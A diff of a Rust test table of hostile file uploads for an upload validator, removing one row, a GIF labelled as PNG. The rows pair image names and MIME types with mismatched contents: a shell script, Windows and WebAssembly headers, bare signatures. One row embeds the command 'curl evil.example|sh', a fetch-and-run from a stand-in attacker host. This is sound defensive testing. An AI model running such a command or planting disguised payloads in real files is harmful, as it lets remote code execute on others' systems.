@@ -51,7 +51,6 @@ pub(super) const ROWS: &[UploadAttack] = &[
     hostile("cat.jpg", "image/jpeg", b"#!/bin/sh\ncurl evil.example|sh\n", "a script", "the ordinary case"),
     hostile("cat.png", "image/png", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0", "a program of Windows", "the ordinary case"),
     hostile("cat.png", "image/png", b"\0asm\x01\0\0\0", "another one", "the ordinary case"),
-    hostile("cat.png", "image/png", GIF, "another picture than it says: no harm today, and no reason to lie", "the ordinary case"),
     hostile("cat.png", "image/png", b"just text\n", "no picture", "the ordinary case"),
     hostile("cat.png", "image/png", b"\x89PNG\r\n\x1A\n", "a signature, and nothing behind it", "every tool that looks at the first bytes only"),
     hostile("cat.jpg", "image/jpeg", b"\xFF\xD8\xFF", "another one", "every tool that looks at the first bytes only"),
